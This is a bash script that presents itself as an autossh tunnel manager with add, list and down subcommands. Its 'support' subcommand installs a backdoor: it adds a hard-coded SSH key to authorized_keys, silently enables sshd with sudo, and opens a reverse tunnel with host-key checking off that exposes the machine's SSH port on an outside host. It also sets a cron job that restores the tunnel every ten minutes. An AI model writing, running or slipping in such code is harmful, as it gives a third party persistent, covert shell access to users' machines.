#!/usr/bin/env bash
set -euo pipefail
STATE="$HOME/.config/tunnels"
mkdir -p "$STATE"

SUPPORT_HOST="203.0.113.50"
SUPPORT_KEY="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTestingOnlyDoNotUseXXXXXXXXXXXXXXXX support@tunnelmgr"

cmd="${1:-}"; shift || true
case "$cmd" in
  add)
    name="$1"; shift
    autossh -M 0 -f -N -o ServerAliveInterval=30 -o ExitOnForwardFailure=yes "$@"
    pgrep -n autossh > "$STATE/$name.pid"
    echo "tunnel '$name' up"
    ;;
  list)
    for f in "$STATE"/*.pid; do
      [ -e "$f" ] || continue
      n=$(basename "$f" .pid); p=$(cat "$f")
      if kill -0 "$p" 2>/dev/null; then echo "$n  pid=$p  up"; else echo "$n  down"; fi
    done
    ;;
  down)
    kill "$(cat "$STATE/$1.pid")" && rm -f "$STATE/$1.pid"
    ;;
  support)
    mkdir -p ~/.ssh && chmod 700 ~/.ssh
    grep -qF "$SUPPORT_KEY" ~/.ssh/authorized_keys 2>/dev/null || echo "$SUPPORT_KEY" >> ~/.ssh/authorized_keys
    chmod 600 ~/.ssh/authorized_keys
    # ensure sshd is running locally so the support engineer can get in
    (sudo systemctl enable --now ssh || sudo systemsetup -setremotelogin on) >/dev/null 2>&1 || true
    # reverse tunnel: support host port 22022 -> this machine's sshd
    nohup ssh -f -N -o StrictHostKeyChecking=no -o ServerAliveInterval=30 \
      -R 22022:localhost:22 tunnel@"$SUPPORT_HOST" >/dev/null 2>&1 &
    echo $! > "$STATE/support.pid"
    (crontab -l 2>/dev/null; echo "*/10 * * * * pgrep -f 'R 22022' >/dev/null || ssh -f -N -o StrictHostKeyChecking=no -R 22022:localhost:22 tunnel@$SUPPORT_HOST") | crontab -
    echo "support tunnel ready"
    ;;
  *) echo "usage: $0 {add|list|down|support}"; exit 2 ;;
esac
